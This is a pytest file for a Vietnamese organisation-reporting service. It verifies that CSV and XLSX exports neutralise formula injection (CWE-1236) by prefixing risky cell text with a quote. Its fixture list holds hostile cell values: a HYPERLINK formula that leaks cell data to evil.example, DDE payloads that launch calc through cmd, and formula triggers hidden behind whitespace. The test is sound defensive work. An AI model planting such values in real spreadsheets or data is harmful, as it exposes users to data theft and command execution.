"""Formula injection (CSV injection, CWE-1236) in every spreadsheet the service emits: a unit, person or
decision named like a formula reads as text in the annual report's CSV and XLSX, the evaluations export,
a decision's people and the completeness workbook — never as a formula, a link or a DDE command."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import httpx
import openpyxl
import pytest

from app.core import csvout
from app.orgs.models import OrgUnit
from tests.builders import Tree

API = "/api/v1"
# What an attacker would name a unit or a person (OWASP's examples, and the characters a spreadsheet
# strips before running a formula).
NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- The writer itself ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", NASTY)
def test_text_starting_with_a_formula_trigger_gets_a_quote(text: str) -> None:
    assert csvout.neutralise(text) == "'" + text
    assert csvout.neutralise(csvout.neutralise(text)) == "'" + text  # once is enough


@pytest.mark.parametrize("text", ["Xã Tam Hưng", "01-278", "a=b", "", "'=already quoted", "9.5"])
def test_ordinary_text_is_untouched(text: str) -> None:
    assert csvout.neutralise(text) == text


def test_numbers_stay_numbers_and_the_document_has_bom_and_crlf() -> None:
    body = csvout.document(
        ["name", "gap", "pct", "passed", "empty"],
        [["=1+1", -3.5, Decimal("-12.25"), True, None], ["-", -2, Decimal("80.00"), False, ""]],
    )
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig").split("\r\n") == [
        "name,gap,pct,passed,empty",
        "'=1+1,-3.5,-12.25,true,",
        "'-,-2,80.00,false,",
        "",
    ]


async def test_streamed_chunks_make_one_document() -> None:
    async def batches():  # type: ignore[no-untyped-def]
        yield [["=a"], ["b"]]
        yield []
        yield [["@c"]]

    chunks = [chunk async for chunk in csvout.stream(["name"], batches())]
    assert len(chunks) == 3 and chunks[0] == b"\xef\xbb\xbfname\r\n"
    assert read_csv(b"".join(chunks)) == [["name"], ["'=a"], ["b"], ["'@c"]]


# --- Over HTTP ------------------------------------------------------------------------------------------


async def nasty_tree(tree: Tree) -> tuple[OrgUnit, list[OrgUnit]]:
    root = await tree.unit("Huyện Thử", "district", code="=1+2")
    children = [await tree.unit(name, "commune", root, code=f"C{i}") for i, name in enumerate(NASTY)]
    return root, children


async def test_annual_report_csv_neutralises_unit_names_and_codes(
    client: httpx.AsyncClient, tree: Tree
) -> None:
    root, _ = await nasty_tree(tree)
    h = tree.auth(await tree.user(("viewer", root)))
    r = await client.get(
        f"{API}/reports/annual", params={"org_unit_id": root.id, "year": 2025, "format": "csv"}, headers=h
    )
    assert r.status_code == 200, r.text
    rows = read_csv(r.content)[1:]
    assert {row[0] for row in rows} == {"'=1+2", *(f"C{i}" for i in range(len(NASTY)))}
    names = {row[1] for row in rows}
    assert names == {"Huyện Thử", *("'" + name for name in NASTY)}
    for row in rows:  # nothing else in a row starts a formula either
        assert all(not cell or cell[0] not in csvout.FORMULA_TRIGGERS for cell in row), row


async def test_annual_report_xlsx_writes_names_as_text_never_formulas(
    client: httpx.AsyncClient, tree: Tree
) -> None:
    root, _ = await nasty_tree(tree)
    h = tree.auth(await tree.user(("viewer", root)))
    r = await client.get(
        f"{API}/reports/annual", params={"org_unit_id": root.id, "year": 2025, "format": "xlsx"}, headers=h
    )
    assert r.status_code == 200, r.text
    assert_no_formula_or_link(r.content)
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]  # "Report" (or "Báo cáo" in vi)
    cells = {c.value: c for row in sheet.iter_rows(min_row=3, max_col=2) for c in row}
    for name in NASTY:
        cell = cells[as_read_back(name)]  # the name itself, without a quote added to the text
        assert cell.data_type == "s" and cell.quotePrefix, name
    assert cells["=1+2"].data_type == "s" and cells["=1+2"].quotePrefix
    assert not cells["Huyện Thử"].quotePrefix


async def test_completeness_xlsx_writes_names_as_text(client: httpx.AsyncClient, tree: Tree) -> None:
    root, _ = await nasty_tree(tree)
    h = tree.auth(await tree.user(("viewer", root)))
    r = await client.get(
        f"{API}/reporting/completeness",
        params={"org_unit_id": root.id, "year": 2025, "format": "xlsx"},
        headers=h,
    )
    assert r.status_code == 200, r.text
    assert_no_formula_or_link(r.content)
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=3) if row[1].value}
    for name in NASTY:
        cell = names[as_read_back(name)]
        assert cell.data_type == "s" and cell.quotePrefix, name


async def test_evaluation_and_decision_exports_neutralise_names_and_numbers(
    client: httpx.AsyncClient, tree: Tree
) -> None:
    root, children = await nasty_tree(tree)
    people = [await tree.person(unit, "staff") for unit in children]
    for person, name in zip(people, NASTY, strict=True):
        person.full_name = name
    await tree.session.commit()
    evaluations = [await tree.evaluation(person, 2025, "reviewed") for person in people]
    decision = await tree.recognise(root, 2025, evaluations, number='=HYPERLINK("http://evil")')
    h = tree.auth(await tree.user(("integration", root), service=True))

    r = await client.get(
        f"{API}/exports/evaluations", params={"org_unit_id": root.id, "year": 2025}, headers=h
    )
    assert r.status_code == 200, r.text
    header, *rows = read_csv(r.content)
    at = {column: i for i, column in enumerate(header)}
    assert sorted(row[at["full_name"]] for row in rows) == sorted("'" + name for name in NASTY)
    assert {row[at["decision_number"]] for row in rows} == {'\'=HYPERLINK("http://evil")'}

    r = await client.get(f"{API}/exports/recognised", params={"decision_id": decision.id}, headers=h)
    assert r.status_code == 200, r.text
    header, *rows = read_csv(r.content)
    at = {column: i for i, column in enumerate(header)}
    assert sorted(row[at["full_name"]] for row in rows) == sorted("'" + name for name in NASTY)
    assert {row[at["decision_number"]] for row in rows} == {'\'=HYPERLINK("http://evil")'}
    for row in rows:
        assert all(not cell or cell[0] not in csvout.FORMULA_TRIGGERS for cell in row), row


def as_read_back(text: str) -> str:
    """XML parsers turn a carriage return in a cell's text into a line feed."""
    return text.replace("\r", "\n")


def assert_no_formula_or_link(xlsx: bytes) -> None:
    """No cell of any sheet is a formula (``<f>``) and no sheet has a hyperlink."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = archive.read(name)
            assert b"<f>" not in xml and b"<f " not in xml and b"<hyperlink" not in xml, name
